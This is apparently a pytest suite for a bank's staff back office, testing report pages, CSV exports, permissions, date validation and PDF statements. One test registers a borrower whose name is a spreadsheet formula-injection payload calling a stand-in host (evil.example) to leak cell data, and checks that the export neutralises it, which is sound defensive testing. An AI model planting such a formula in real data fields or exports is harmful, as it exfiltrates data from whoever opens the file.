"""Report pages and their CSV exports, as staff see them; statement pages in the back office."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
from decimal import Decimal

import pytest
from pypdf import PdfReader
from sqlalchemy import select
from statements import world as w

from bank.ledger import chart
from bank.ledger import queries as ledger_queries
from bank.ledger.service import account_by_code
from bank.members import service as members
from bank.reports.csv_export import safe_cell, to_csv
from bank.statements.models import StoredStatement

REPORT_URLS = [
    "/staff/reports",
    "/staff/reports/trial-balance",
    "/staff/reports/balance-sheet",
    "/staff/reports/profit-and-loss",
    "/staff/reports/portfolio",
    "/staff/reports/arrears",
    "/staff/reports/funding",
    "/staff/reports/flows",
]

MONTHLY = "/staff/statements/monthly"


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype == "text/csv"
    text = response.get_data(as_text=True).lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("url", REPORT_URLS)
def test_every_report_page_renders_for_a_credit_officer(client, login_as, world, url):
    login_as("credit_officer")
    response = client.get(url)
    assert response.status_code == 200, response.get_data(as_text=True)[:1000]
    assert "<script" not in response.get_data(as_text=True)


def test_tellers_may_not_see_the_reports(client, login_as, world):
    login_as("teller")
    assert client.get("/staff/reports/arrears").status_code == 403


def test_trial_balance_csv_equals_the_ledger(client, login_as, world, session):
    login_as("admin")
    rows = read_csv(
        client.get("/staff/reports/trial-balance?as_of=2026-11-28&format=csv&table=trial-balance")
    )
    assert rows[0] == ["Code", "Account", "Debit", "Credit", "Balance"] or rows[0][0] in (
        "Code",
        "Rekening",
        "Code ",
    )
    by_code = {row[0]: row for row in rows[1:-1]}
    deposits = Decimal(by_code[chart.MEMBER_DEPOSITS][4])
    assert deposits == ledger_queries.balance(session, account_by_code(session, chart.MEMBER_DEPOSITS).id)
    session.commit()  # end the read: SQLite lets one writer in at a time
    total = rows[-1]
    assert Decimal(total[2]) == Decimal(total[3])


def test_flows_page_draws_an_svg_chart_without_script(client, login_as, world):
    login_as("admin")
    body = client.get("/staff/reports/flows?date_from=2026-01-01&date_to=2026-11-28").get_data(as_text=True)
    assert "<svg" in body and "<rect" in body
    assert "style=" not in body.split("<svg", 1)[1].split("</svg>", 1)[0]
    rows = read_csv(client.get("/staff/reports/flows?date_from=2026-01-01&date_to=2026-11-28&format=csv"))
    march = next(row for row in rows if row[0] == "2026-03")
    assert Decimal(march[2]) == Decimal("12000.00")


def test_future_dates_are_refused_with_the_field_named(client, login_as, world):
    login_as("admin")
    response = client.get("/staff/reports/balance-sheet?as_of=2026-12-31")
    assert response.status_code == 422
    body = response.get_data(as_text=True)
    assert "as_of" in body and "must not lie in the future" in body
    response = client.get("/staff/reports/profit-and-loss?date_from=2026-10-01&date_to=2026-09-01")
    assert response.status_code == 422
    assert "date_to" in response.get_data(as_text=True)
    response = client.get("/staff/reports/portfolio?as_of=gisteren")
    assert response.status_code == 422
    assert "as_of" in response.get_data(as_text=True)


def test_a_borrower_named_like_a_formula_is_exported_as_text(client, login_as, world, session):
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")'
    member = members.register_organisation(
        session,
        actor=w.SETUP,
        legal_name=evil,
        legal_form="association",
        kvk_number="87654321",
        street="Javastraat",
        house_number="99",
        postcode="1094 HB",
        city="Amsterdam",
        activity="vereniging",
    )
    account = w.savings.open_account(
        session, member, world.product, actor=w.SETUP, opened_on=dt.date(2026, 2, 1)
    )
    w.book_loan(
        session,
        borrower=member,
        product=world.loan_product,
        principal=Decimal("5000.00"),
        term_periods=12,
        disbursed_on=dt.date(2026, 6, 30),
        repayment_account=account,
        actor=w.SETUP,
        key="evil-loan",
    )
    session.commit()
    login_as("admin")
    page = client.get("/staff/reports/arrears").get_data(as_text=True)
    assert "=HYPERLINK(&#34;http" in page or "=HYPERLINK(&quot;http" in page  # escaped in HTML
    rows = read_csv(client.get("/staff/reports/arrears?format=csv&table=arrears"))
    names = [row[1] for row in rows[1:]]
    assert "'" + evil in names
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_safe_cell_neutralises_every_formula_trigger():
    for text in ("=1+1", "+31 6 1234", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(text) == "'" + text
    assert safe_cell("Jansen") == "Jansen"
    assert safe_cell(Decimal("-12.50")) == "-12.50"  # numbers stay numbers
    assert to_csv(["a"], [["=x"]]) == "a\r\n'=x\r\n"


# ---------------------------------------------------------------------------------------------
# Statements in the back office


def test_staff_download_a_statement_for_any_account_and_period(client, login_as, world):
    login_as("teller")
    number = world.anna_account.number
    response = client.get(f"/staff/statements?account={number}&date_from=2026-10-01&date_to=2026-10-31")
    assert response.status_code == 200
    assert response.mimetype == "application/pdf"
    text = PdfReader(io.BytesIO(response.data)).pages[0].extract_text()
    assert "€ 2.411,41" in text and "Eindsaldo" in text


def test_staff_statement_with_a_bad_period_explains_which_field(client, login_as, world):
    login_as("teller")
    number = world.anna_account.number
    response = client.get(f"/staff/statements?account={number}&date_from=2026-10-31&date_to=2026-10-01")
    assert response.status_code == 422
    assert "must not be before date_from" in response.get_data(as_text=True)
    response = client.get(f"/staff/statements?account={number}&date_from=2026-11-01&date_to=2027-01-31")
    assert response.status_code == 422
    assert "must not lie in the future" in response.get_data(as_text=True)
    response = client.get("/staff/statements?account=1234&date_from=2026-10-01&date_to=2026-10-31")
    assert response.status_code == 422
    assert "10-digit account number" in response.get_data(as_text=True)


def test_admin_produces_a_month_and_downloads_the_stored_pdf(client, login_as, world, session, app):
    login_as("admin")
    response = client.post(MONTHLY, data={"month": "10", "year": "2026"})
    assert response.status_code == 302
    stored = session.scalars(select(StoredStatement).order_by(StoredStatement.id)).all()
    assert len(stored) == 2
    session.commit()  # end the read before the next request
    page = client.get("/staff/statements").get_data(as_text=True)
    assert world.anna_account.formatted_number in page
    pdf_response = client.get(f"/staff/statements/{stored[0].id}.pdf")
    assert pdf_response.status_code == 200
    assert hashlib.sha256(pdf_response.data).hexdigest() == stored[0].sha256
    again = client.post(MONTHLY, data={"month": "10", "year": "2026"}, follow_redirects=True)
    assert again.status_code == 200
    assert len(session.scalars(select(StoredStatement)).all()) == 2
    session.commit()
    refused = client.post(MONTHLY, data={"month": "11", "year": "2026"}, follow_redirects=True)
    assert "must have ended" in refused.get_data(as_text=True)


def test_tellers_may_download_but_not_produce_monthly_statements(client, login_as, world):
    login_as("teller")
    assert client.post(MONTHLY, data={"month": "10", "year": "2026"}).status_code == 403


def test_loan_and_annual_statements_for_staff(client, login_as, world):
    login_as("credit_officer")
    loan_pdf = client.get(f"/staff/loans/{world.loan.id}/statement.pdf?as_of=2026-11-28")
    assert loan_pdf.status_code == 200 and loan_pdf.mimetype == "application/pdf"
    annual = client.get(f"/staff/members/{world.anna.id}/annual-statement.pdf?year=2026")
    assert annual.status_code == 200
    assert "Jaaroverzicht 2026" in PdfReader(io.BytesIO(annual.data)).pages[0].extract_text()
    future = client.get(
        f"/staff/members/{world.anna.id}/annual-statement.pdf?year=2027", follow_redirects=True
    )
    assert future.request.path == f"/staff/members/{world.anna.id}"
    assert "Year: " in future.get_data(as_text=True)
    assert client.get("/staff/loans/999999/statement.pdf").status_code == 404
